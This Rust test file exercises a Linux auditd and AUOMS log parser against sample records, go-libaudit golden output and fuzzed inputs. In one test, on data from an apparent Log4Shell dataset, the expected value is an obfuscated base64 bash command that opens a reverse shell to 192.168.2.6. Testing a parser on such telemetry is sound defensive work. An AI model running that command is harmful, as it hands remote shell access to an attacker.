use super::*;

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpus");

fn fields(line: &str) -> Vec<(String, String)> {
    parse_audit(line)
        .unwrap()
        .fields()
        .map(|f| (f.key.to_string(), f.value.into_owned()))
        .collect()
}

fn get(fields: &[(String, String)], k: &str) -> Option<String> {
    fields
        .iter()
        .find(|(key, _)| key == k)
        .map(|(_, v)| v.clone())
}

const ARP_SYSCALL: &str = r#"type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59 success=yes exit=0 a0=558e251634a0 a1=558e25162a50 a2=558e25160800 a3=8 items=2 ppid=29002 pid=1631 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=104 comm="arp" exe="/usr/sbin/arp" key=(null)"#;

#[test]
fn syscall_header_and_fields() {
    let r = parse_audit(ARP_SYSCALL).unwrap();
    assert_eq!(r.node, None);
    assert_eq!(r.record_type, "SYSCALL");
    assert_eq!(r.time_text, "1604994496.155");
    assert_eq!((r.secs, r.nanos), (1_604_994_496, 155_000_000));
    assert_eq!((r.serial, r.serial_text), (92733, "92733"));
    assert!(r.body.starts_with("arch=c000003e "));
    assert_eq!(r.enriched, None);
    let f = fields(ARP_SYSCALL);
    assert_eq!(f.len(), 25);
    assert_eq!(f[0], ("arch".into(), "c000003e".into()));
    // SYSCALL's a0..a3 are registers, not hex text.
    assert_eq!(get(&f, "a0").as_deref(), Some("558e251634a0"));
    assert_eq!(get(&f, "comm").as_deref(), Some("arp"));
    assert_eq!(get(&f, "exe").as_deref(), Some("/usr/sbin/arp"));
    assert_eq!(get(&f, "key").as_deref(), Some("(null)"));
    assert_eq!(syscall_name("c000003e", "59"), Some("execve"));
    assert_eq!(syscall_name("c00000b7", "221"), Some("execve"));
    assert_eq!(syscall_name("c000003e", "99999"), None);
}

#[test]
fn hex_values_decoded_for_the_keys_auditd_encodes() {
    let f =
        fields("type=PROCTITLE msg=audit(1604994496.155:92734): proctitle=67726570002D76005E3F");
    assert_eq!(get(&f, "proctitle").as_deref(), Some("grep -v ^?"));
    let f = fields("type=CWD msg=audit(1500661699.656:1208725):  cwd=2F746D702F6120622063");
    assert_eq!(get(&f, "cwd").as_deref(), Some("/tmp/a b c"));
    let f = fields(
        r#"type=SYSCALL msg=audit(1490995752.404:20614537): arch=c000003e syscall=44 success=yes exit=464 a0=9 auid=4294967295 comm="charon" exe=2F7573722F6C6962657865632F7374726F6E677377616E2F636861726F6E202864656C6574656429 key=(null)"#,
    );
    assert_eq!(
        get(&f, "exe").as_deref(),
        Some("/usr/libexec/strongswan/charon (deleted)")
    );
    // EXECVE arguments are hex when they hold spaces or quotes; odd length or non-hex stays.
    let r = parse_audit(
        r#"type=EXECVE msg=audit(1.000:1): argc=4 a0="echo" a1=6869207468657265 a2=abc a3="x""#,
    )
    .unwrap();
    assert_eq!(r.execve_args(), "echo hi there abc x");
    // `key` with several rule keys (\x01 between them).
    let f = fields("type=SYSCALL msg=audit(1.000:2): key=657865630136346269740A");
    assert_eq!(get(&f, "key").as_deref(), Some("exec,64bit\n"));
    // ubuntu17's `key=…"` (a stray quote) is not hex: as written.
    let f = fields(r#"type=SYSCALL msg=audit(1.000:3): key=65786563013634626974""#);
    assert_eq!(get(&f, "key").as_deref(), Some(r#"65786563013634626974""#));
    // Long arguments split in pieces: a1[0], a1[1] join into one argument.
    let r = parse_audit(
        r#"type=EXECVE msg=audit(1.000:4): argc=2 a0="cat" a1_len=6 a1[0]=616263 a1[1]=646566"#,
    )
    .unwrap();
    assert_eq!(r.execve_args(), "cat abcdef");
    assert_eq!(decode_hex("0g"), None);
    assert_eq!(decode_hex("abc"), None);
    assert_eq!(decode_hex("4142"), Some(b"AB".to_vec()));
}

#[test]
fn user_space_records_nest_a_second_list() {
    let line = r#"type=USER_LOGIN msg=audit(1492896301.818:19955): pid=12635 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" hostname=? addr=179.38.151.221 terminal=sshd res=failed'"#;
    let r = parse_audit(line).unwrap();
    assert_eq!(r.record_type, "USER_LOGIN");
    let got: Vec<(&str, String, bool)> = r
        .fields()
        .map(|f| (f.key, f.value.into_owned(), f.nested))
        .collect();
    assert_eq!(
        got,
        vec![
            ("pid", "12635".into(), false),
            ("uid", "0".into(), false),
            ("auid", "4294967295".into(), false),
            ("ses", "4294967295".into(), false),
            ("op", "login".into(), true),
            ("acct", "(invalid user)".into(), true),
            ("exe", "/usr/sbin/sshd".into(), true),
            ("hostname", "?".into(), true),
            ("addr", "179.38.151.221".into(), true),
            ("terminal", "sshd".into(), true),
            ("res", "failed".into(), true),
        ]
    );
    // RHEL 5: words inside the list and a parenthesised tail.
    let f = fields(
        r#"type=USER_START msg=audit(1170021601.344:297): user pid=13015 uid=0 auid=0 subj=system_u:system_r:crond_t:s0-s0:c0.c1023 msg='PAM: session open acct=root : exe="/usr/sbin/crond" (hostname=?, addr=?, terminal=cron res=success)'"#,
    );
    assert_eq!(get(&f, "acct").as_deref(), Some("root"));
    assert_eq!(get(&f, "terminal").as_deref(), Some("cron"));
    assert_eq!(get(&f, "res").as_deref(), Some("success"));
    assert_eq!(get(&f, "hostname").as_deref(), Some("?"));
}

#[test]
fn odd_records() {
    // No colon after the header; free text before the pairs.
    let r = parse_audit("type=DAEMON_CONFIG msg=audit(1490239800.477:34) config changed, auid=0 pid=1512 subj=system_u:system_r:unconfined_service_t:s0 res=success").unwrap();
    assert_eq!((r.record_type, r.serial), ("DAEMON_CONFIG", 34));
    assert_eq!(r.field("res").as_deref(), Some("success"));
    // AVC free text: words and pairs.
    let r = parse_audit(r#"type=AVC msg=audit(1170021493.977:293): avc:  denied  { read } for  pid=13010 comm="pickup" name="maildrop" dev=hda7 ino=14911367 scontext=system_u:system_r:postfix_pickup_t:s0 tcontext=system_u:object_r:postfix_spool_maildrop_t:s0 tclass=dir"#).unwrap();
    let words: Vec<&str> = r
        .items()
        .filter_map(|i| match i {
            Item::Word(w) => Some(w),
            Item::Pair(_) => None,
        })
        .collect();
    assert_eq!(words, ["avc:", "denied", "{", "read", "}", "for"]);
    assert_eq!(r.field("comm").as_deref(), Some("pickup"));
    assert_eq!(r.field("tclass").as_deref(), Some("dir"));
    // `old auid=… new auid=…`: pairs after words.
    let r = parse_audit("type=LOGIN msg=audit(1170021601.343:296): login pid=13015 uid=0 old auid=4294967295 new auid=0").unwrap();
    let auids: Vec<String> = r
        .fields()
        .filter(|f| f.key == "auid")
        .map(|f| f.value.into_owned())
        .collect();
    assert_eq!(auids, ["4294967295", "0"]);
    // node= prefix, CRLF, ENRICHED fields after GS.
    let r = parse_audit("node=web-01.corp type=SYSCALL msg=audit(1772442731.001:7): arch=c000003e syscall=59 success=yes auid=1000 uid=0 exe=\"/usr/bin/id\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"\r").unwrap();
    assert_eq!(r.node, Some("web-01.corp"));
    assert_eq!(r.nanos, 1_000_000);
    assert_eq!(r.field("key").as_deref(), Some("(null)"));
    let enriched: Vec<(&str, String)> = r
        .enriched_fields()
        .map(|p| (p.key, p.value.into_owned()))
        .collect();
    assert_eq!(
        enriched,
        vec![
            ("ARCH", "x86_64".into()),
            ("SYSCALL", "execve".into()),
            ("AUID", "alice".into()),
            ("UID", "root".into()),
        ]
    );
    // No audit(…) header: no time.
    let e = parse_audit("type=UNKNOWN[1329] msg=?").unwrap_err();
    assert_eq!((e.kind, e.offset), (ParseErrorKind::Timestamp, 19));
    assert_eq!(
        parse_audit("Mar  2 09:12:11 host audispd: x")
            .unwrap_err()
            .kind,
        ParseErrorKind::Signature
    );
    assert_eq!(parse_audit("").unwrap_err().kind, ParseErrorKind::Empty);
    // The time is read exactly, whatever the fraction length.
    let r = parse_audit("type=X audit(1652292621.9:1): a=1").unwrap();
    assert_eq!(r.nanos, 900_000_000);
    let r = parse_audit("type=X audit(1652292621.123456789:1): a=1").unwrap();
    assert_eq!(r.nanos, 123_456_789);
    assert!(parse_audit("type=X audit(1652292621.1234567890:1): a=1").is_err());
}

#[test]
fn sockaddr_families() {
    assert_eq!(
        sockaddr("02000050A9FEA9FE0000000000000000"),
        Some(SockAddr::Inet {
            addr: "169.254.169.254".parse().unwrap(),
            port: 80
        })
    );
    assert_eq!(
        sockaddr("0A000016000000000000000000000000000000000000000000000000"),
        Some(SockAddr::Inet {
            addr: "::".parse().unwrap(),
            port: 22
        })
    );
    assert_eq!(
        sockaddr("01002F7661722F72756E2F6E7363642F736F636B65740000603B"),
        Some(SockAddr::Unix {
            path: "/var/run/nscd/socket".into()
        })
    );
    assert_eq!(
        sockaddr("100000000000000000000000"),
        Some(SockAddr::Other { family: 16 })
    );
    assert_eq!(sockaddr("0200"), None);
    assert_eq!(sockaddr("zz"), None);
}

// ---- the corpus ---------------------------------------------------------------------------

fn corpus_file(rel: &str) -> Option<String> {
    match std::fs::read_to_string(format!("{CORPUS}/{rel}")) {
        Ok(t) => Some(t),
        Err(_) => {
            eprintln!("skipped: corpus file {rel} not present");
            None
        }
    }
}

/// Seconds and milliseconds of go-libaudit's `@timestamp` (`2016-12-07T02:21:48.36Z`).
fn golden_time(ts: &str) -> (i64, u32) {
    let ts = ts.trim_end_matches('Z');
    let (date, time) = ts.split_once('T').unwrap();
    let d: Vec<i64> = date.split('-').map(|x| x.parse().unwrap()).collect();
    let (hms, frac) = time.split_once('.').unwrap_or((time, "0"));
    let t: Vec<i64> = hms.split(':').map(|x| x.parse().unwrap()).collect();
    // Days from civil (Howard Hinnant's algorithm).
    let (y, m) = if d[1] <= 2 {
        (d[0] - 1, d[1] + 9)
    } else {
        (d[0], d[1] - 3)
    };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * m + 2) / 5 + d[2] - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let millis: u32 = format!("{frac:0<3}")[..3].parse().unwrap();
    (days * 86_400 + t[0] * 3600 + t[1] * 60 + t[2], millis)
}

/// go-libaudit's parsed rhel7 records are the oracle: time, serial, type, and every data field
/// that is a field of the record as written (its own interpretations — `unset`, syscall and
/// arch names, errno names, SELinux context parts, `result` — compared where we have them).
#[test]
fn rhel7_matches_go_libaudit_golden() {
    let (Some(log), Some(golden)) = (
        corpus_file("go-libaudit-testdata/audit-rhel7.log"),
        corpus_file("go-libaudit-testdata/audit-rhel7.log.golden"),
    ) else {
        return;
    };
    let golden: serde_json::Value = serde_json::from_str(&golden).unwrap();
    let golden = golden.as_array().unwrap();
    let lines: Vec<&str> = log.lines().collect();
    assert_eq!(lines.len(), golden.len());
    let mut compared = 0;
    for (line, g) in lines.iter().zip(golden) {
        if g.is_null() {
            // go-libaudit could not parse it either: `type=UNKNOWN[1329] msg=?`.
            assert_eq!(
                parse_audit(line).unwrap_err().kind,
                ParseErrorKind::Timestamp,
                "{line}"
            );
            continue;
        }
        let r = parse_audit(line).unwrap_or_else(|e| panic!("{line}: {e:?}"));
        assert_eq!(
            Some(line.split_once(" msg=").unwrap().1),
            g["raw_msg"].as_str()
        );
        assert_eq!(
            (r.secs, r.nanos / 1_000_000),
            golden_time(g["@timestamp"].as_str().unwrap()),
            "{line}"
        );
        assert_eq!(Some(r.serial), g["sequence"].as_u64());
        assert_eq!(
            r.record_type.to_ascii_lowercase(),
            g["record_type"].as_str().unwrap()
        );
        let ours = fields(line);
        let arch = get(&ours, "arch").unwrap_or_default();
        for (k, v) in g["data"].as_object().unwrap() {
            let v = v.as_str().unwrap();
            let mine = get(&ours, k);
            match (k.as_str(), r.record_type) {
                ("syscall", _) => {
                    let raw = mine.unwrap();
                    assert_eq!(syscall_name(&arch, &raw), Some(v), "{line}");
                }
                ("family" | "addr" | "port" | "path", "SOCKADDR") => {
                    let sa = sockaddr(&get(&ours, "saddr").unwrap()).unwrap();
                    let ok = match (&sa, k.as_str()) {
                        (SockAddr::Inet { addr, .. }, "addr") => addr.to_string() == v,
                        (SockAddr::Inet { port, .. }, "port") => port.to_string() == v,
                        (SockAddr::Unix { path }, "path") => path == v,
                        (_, "family") => true,
                        _ => false,
                    };
                    assert!(ok, "{k}={v} vs {sa:?}");
                }
                // Interpretations of a raw value.
                ("arch", _) => assert_eq!((arch.as_str(), v), ("c000003e", "x86_64")),
                ("exit", _) if v.starts_with('E') => {}
                (_, _) if v == "unset" => {
                    assert_eq!(mine.as_deref(), Some("4294967295"), "{k} in {line}")
                }
                _ => match mine {
                    Some(m) => {
                        assert_eq!(m, v, "{k} in {line}");
                        compared += 1;
                    }
                    // Fields go-libaudit derives (`result`, `subj_*`, `obj_*`) are not
                    // written in the record.
                    None => assert!(
                        !line.contains(&format!(" {k}=")) && !line.contains(&format!("'{k}=")),
                        "{k} missing from {line}"
                    ),
                },
            }
        }
    }
    assert!(compared > 300, "{compared} values compared");
}

/// Every record of every auditd file in the corpus parses, except the one go-libaudit's
/// golden output also leaves unparsed (`type=UNKNOWN[1329] msg=?`, no audit(…) header).
#[test]
fn every_corpus_record_parses() {
    let files: [(&str, usize, usize); 8] = [
        ("go-libaudit-testdata/audit-rhel6.log", 2, 0),
        ("go-libaudit-testdata/audit-rhel7.log", 49, 1),
        ("go-libaudit-testdata/audit-ubuntu14.log", 1, 0),
        ("go-libaudit-testdata/audit-ubuntu16.log", 3, 0),
        ("go-libaudit-testdata/audit-ubuntu17.log", 1, 0),
        ("go-libaudit-testdata/test2.log", 10, 0),
        ("go-libaudit-testdata/test3.log", 17, 0),
        (
            "otrf-security-datasets/linux-auditd/sh_arp_cache_2020-11-10074812.log",
            12,
            0,
        ),
    ];
    for (rel, ok, bad) in files {
        let Some(text) = corpus_file(rel) else {
            return;
        };
        let (mut good, mut failed) = (0, 0);
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            match parse_audit(line) {
                Ok(r) => {
                    good += 1;
                    // Every field iterates to its end; words never swallow a whole record.
                    let _ = r.fields().count();
                }
                Err(e) => {
                    assert!(
                        line.starts_with("type=UNKNOWN[1329] msg=?"),
                        "{line}: {e:?}"
                    );
                    failed += 1;
                }
            }
        }
        assert_eq!((good, failed), (ok, bad), "{rel}");
    }
}

#[test]
fn otrf_arp_event_fields() {
    let Some(text) =
        corpus_file("otrf-security-datasets/linux-auditd/sh_arp_cache_2020-11-10074812.log")
    else {
        return;
    };
    let recs: Vec<AuditRecord<'_>> = text.lines().map(|l| parse_audit(l).unwrap()).collect();
    assert!(recs[..6].iter().all(|r| r.serial == 92733));
    assert!(recs[6..].iter().all(|r| r.serial == 92734));
    assert_eq!(recs[1].execve_args(), "arp -a");
    assert_eq!(recs[7].execve_args(), "grep -v ^?");
    assert_eq!(recs[2].field("cwd").as_deref(), Some("/home/wardog"));
    assert_eq!(recs[3].field("name").as_deref(), Some("/usr/sbin/arp"));
    assert_eq!(recs[5].field("proctitle").as_deref(), Some("arp -a"));
    assert_eq!(recs[11].field("proctitle").as_deref(), Some("grep -v ^?"));
}

#[test]
fn test3_interleaved_serials() {
    let Some(text) = corpus_file("go-libaudit-testdata/test3.log") else {
        return;
    };
    let serials: Vec<u64> = text
        .lines()
        .map(|l| parse_audit(l).unwrap().serial)
        .collect();
    assert_eq!(
        serials,
        [
            194435, 194433, 194433, 194435, 194436, 194437, 194436, 194437, 194438, 194439, 194439,
            194440, 194438, 194440, 194894, 1865, 10262
        ]
    );
    let r = parse_audit(text.lines().nth(3).unwrap()).unwrap();
    assert_eq!(r.field("proctitle").as_deref(), Some("sshd: burn [priv]"));
}

/// The AUOMS records carried in Sentinel `Syslog` rows (`SyslogMessage`) of OTRF's Log4Shell
/// dataset: every one parses, with AUOMS's interpreted values.
#[test]
fn auoms_syslog_messages_parse() {
    let Some(text) = corpus_file(
        "otrf-security-datasets/Log4Shell/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
    ) else {
        return;
    };
    let msgs: Vec<String> = text
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            v["SyslogMessage"].as_str().unwrap().to_string()
        })
        .collect();
    assert_eq!(msgs.len(), 50);
    for m in &msgs {
        let r = parse_audit(m).unwrap_or_else(|e| panic!("{m}: {e:?}"));
        assert!(r.is_auoms());
        assert_eq!(r.record_type, "AUOMS_EXECVE");
        assert_eq!(r.field("node").as_deref(), Some("UBUNTU5"));
        assert_eq!(r.field("syscall").as_deref(), Some("execve"));
        assert!(r.field("containerid").is_some(), "{m}");
    }
    let first = parse_audit(&msgs[0]).unwrap();
    assert_eq!(first.time_text, "1652292621.986");
    assert_eq!(first.serial, 84138);
    let f: Vec<(String, String)> = first
        .fields()
        .map(|f| (f.key.to_string(), f.value.into_owned()))
        .collect();
    assert_eq!(get(&f, "user").as_deref(), Some("tomcat"));
    assert_eq!(get(&f, "ses").as_deref(), Some("-1"));
    assert_eq!(get(&f, "comm").as_deref(), Some("http-nio-8080-e"));
    assert_eq!(
        get(&f, "exe").as_deref(),
        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
    );
    assert_eq!(
        get(&f, "path_name").as_deref(),
        Some(r#"["/usr/local/sbin/bash"]"#)
    );
    // AUOMS values are never hex-decoded (key_r is its raw form).
    assert_eq!(
        get(&f, "key_r").as_deref(),
        Some("61756F6D730164656C657465")
    );
    assert_eq!(
        get(&f, "proctitle").as_deref(),
        Some("/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l")
    );
    assert_eq!(get(&f, "redactors").as_deref(), Some(""));
    let shell = msgs
        .iter()
        .map(|m| parse_audit(m).unwrap())
        .find(|r| r.serial == 84143)
        .unwrap();
    assert_eq!(
        shell.field("cmdline").as_deref(),
        Some(
            r#"bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}""#
        )
    );
    assert_eq!(shell.field("argc").as_deref(), Some("3"));
    assert_eq!(shell.field("success").as_deref(), Some("yes"));
}

// ---- never panics -------------------------------------------------------------------------

const SEEDS: &[&str] = &[
    ARP_SYSCALL,
    "node=h type=USER_LOGIN msg=audit(1492896301.818:19955): pid=1 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" addr=1.2.3.4 res=failed'",
    "type=USER_START msg=audit(1170021601.344:297): user pid=1 msg='PAM: session open acct=root : exe=\"/x\" (hostname=?, addr=?, terminal=cron res=success)'",
    "type=PROCTITLE msg=audit(1.2:3): proctitle=617270002D61",
    "type=EXECVE msg=audit(1.2:3): argc=2 a0=\"a\" a1[0]=41 a1[1]=4",
    "type=AUOMS_EXECVE audit(1652292621.986:84138): path_name=[\"/a\",\"/b\"] cmdline=\"a \"b\"\" proctitle=/x -Da=b redactors=",
    "type=SYSCALL msg=audit(1.001:7): a=1\u{1d}AUID=\"alice\"",
    "type=DAEMON_CONFIG msg=audit(1490239800.477:34) config changed, auid=0",
    "type=UNKNOWN[1329] msg=?",
];

const ALPHABET: &[&str] = &[
    "=",
    "\"",
    "'",
    " ",
    "(",
    ")",
    "[",
    "]",
    ":",
    ".",
    ",",
    "\u{1d}",
    "audit(",
    "msg=",
    "type=",
    "node=",
    "1",
    "0",
    "A",
    "f",
    "a0",
    "proctitle",
    "é",
    "🦀",
    "\\",
];

struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

fn exercise(input: &str) {
    match parse_audit(input) {
        Ok(r) => {
            assert!(r.nanos < 1_000_000_000);
            assert!(input.contains(r.record_type) && input.contains(r.body));
            let _ = r.fields().count();
            let _ = r.enriched_fields().count();
            let _ = r.execve_args();
            for f in r.fields() {
                let _ = sockaddr(&f.value);
            }
        }
        Err(e) => assert!(e.offset <= input.len(), "{input:?}"),
    }
    let _ = decode_hex(input);
    let _ = sockaddr(input);
    let _ = syscall_name(input, input);
}

#[test]
fn never_panics() {
    for seed in SEEDS {
        for (i, _) in seed.char_indices() {
            exercise(&seed[..i]);
            exercise(&seed[i..]);
        }
    }
    let mut rng = XorShift(0x2545_f491_4f6c_dd1d);
    for seed in SEEDS {
        let chars: Vec<char> = seed.chars().collect();
        for _ in 0..300 {
            let mut c = chars.clone();
            let at = rng.below(c.len().max(1));
            match rng.below(2) {
                0 if !c.is_empty() => {
                    c.remove(at.min(c.len() - 1));
                }
                _ => {
                    for (k, ch) in ALPHABET[rng.below(ALPHABET.len())].chars().enumerate() {
                        c.insert((at + k).min(c.len()), ch);
                    }
                }
            }
            exercise(&c.into_iter().collect::<String>());
        }
    }
    for _ in 0..3000 {
        let n = rng.below(24);
        let s: String = (0..n)
            .map(|_| ALPHABET[rng.below(ALPHABET.len())])
            .collect();
        exercise(&s);
    }
    // Hex of every length, valid and not.
    for n in 0..70 {
        let s: String = (0..n).map(|i| if i % 7 == 6 { 'g' } else { 'a' }).collect();
        let _ = sockaddr(&s);
        let _ = sockaddr(&"0".repeat(n));
        let _ = sockaddr(&format!("0A00{}", "1".repeat(n)));
        let _ = sockaddr(&format!("0200{}", "1".repeat(n)));
    }
}
